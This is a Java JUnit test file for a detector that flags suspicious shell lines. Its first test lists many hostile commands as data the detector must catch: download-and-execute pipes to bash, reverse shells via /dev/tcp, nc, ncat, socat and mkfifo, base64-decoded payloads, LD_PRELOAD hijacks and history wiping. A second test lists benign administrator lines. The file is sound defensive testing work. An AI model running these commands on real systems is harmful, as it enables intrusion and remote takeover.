package dev.yagura.detect.storage.commands;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class OddCommandsTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -fsSL http://198.51.100.7/i.sh | bash",
                "wget -qO- http://198.51.100.7/x|sh -s -- -q",
                "(curl -s http://x || wget -qO- http://x) | sudo bash",
                "bash -c \"$(curl -fsSL http://x)\"",
                "eval \"$(wget -qO- http://x)\"",
                ". <(curl -s http://x)",
                "bash <(curl -s http://x) arg",
                "sh -c 'curl http://x | sh'",
                "curl http://x | base64 -d | python3",
                "x=`curl http://x`; eval `curl http://x`",
                "echo aGVsbG8= | base64 -d | sh",
                "echo aGVsbG8= | openssl enc -d -base64 | bash -",
                "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
                "/bin/sh -i >& /tmp/f",
                "nc -e /bin/sh 198.51.100.7 443",
                "ncat 198.51.100.7 443 --exec /bin/bash",
                "rm -f /var/f; mkfifo /var/f; cat /var/f | sh -i 2>&1 | nc 198.51.100.7 443 > /var/f",
                "socat tcp:198.51.100.7:443 exec:bash,pty",
                "python3 -c 'import socket,pty;s=socket.socket();pty.spawn(\"/bin/sh\")'",
                "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0'))\"",
                "/tmp/update",
                "nohup /dev/shm/.x/run >/dev/null 2>&1 &",
                "sh /var/tmp/a.sh",
                "env A=1 setsid /usr/lib/.fx/cons",
                "test -x /usr/bin/x && /etc/.x/y",
                "export LD_PRELOAD=/tmp/lib.so",
                "LD_PRELOAD=/usr/lib/.lib/x.so /usr/sbin/sshd",
                "unset HISTFILE",
                "~/.hidden"
            })
    void whatIntrudersWriteIsOdd(String line) {
        assertThat(OddCommands.in(line)).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "# curl http://x | sh",
                "17 * * * * cd / && run-parts --report /etc/cron.hourly",
                "curl -s http://x/health | grep -q ok && echo up | mail root",
                "curl -s http://x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
                "curl -s http://x | sudo tee /etc/apt/keyrings/x.asc",
                "curl -o /tmp/x.tar.gz http://x; tar xf /tmp/x.tar.gz; rm /tmp/x.tar.gz",
                "bash /usr/local/bin/report.sh \"$(curl -s http://x/token)\"",
                "rsync -avz -e ssh /srv/ backup:/srv/",
                "ssh -i /root/.ssh/id backup 'tar c /srv' >& /var/log/backup.log",
                "nc -z localhost 22",
                "eval \"$(dircolors -b)\"",
                "base64 -d /etc/x.b64 > /etc/x.bin",
                "echo x | base64 | mail root",
                ". ~/.bashrc",
                ". \"$HOME/.cargo/env\"",
                "/root/.acme.sh/acme.sh --cron --home /root/.acme.sh",
                "$HOME/.mytool/bin/run",
                "find /tmp -mtime +7 -delete",
                "rm -rf /tmp/x /var/tmp/.y",
                "[ -x /usr/sbin/anacron ] || ( cd / && run-parts --report /etc/cron.daily )",
                "export HISTSIZE=1000 HISTFILE=~/.history",
                "case $- in *i*) ;; *) return;; esac",
                "PS1='${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '",
                "while read -r line; do echo \"$line\"; done < <(ls)",
                "echo \"unbalanced $(( `"
            })
    void whatAdministratorsWriteIsNot(String line) {
        assertThat(OddCommands.in(line)).isEmpty();
    }

    @Test
    void anEncodedPayloadIsOddAndAKeyIsNot() {
        assertThat(OddCommands.in("x=1 run " + "QUJD".repeat(64))).isPresent();
        assertThat(OddCommands.in("run " + "QUJD".repeat(60))).isEmpty();
    }

    @Test
    void anyTextIsRead() {
        String line = "$(`<((\"'|&;{".repeat(10_000);

        assertThat(ShellLine.commands(line)).hasSizeLessThanOrEqualTo(1_001);
        assertThat(OddCommands.in("$(".repeat(5_000))).isEmpty();
        assertThat(OddCommands.in("bash -c '".repeat(1_000))).isEmpty();
    }
}
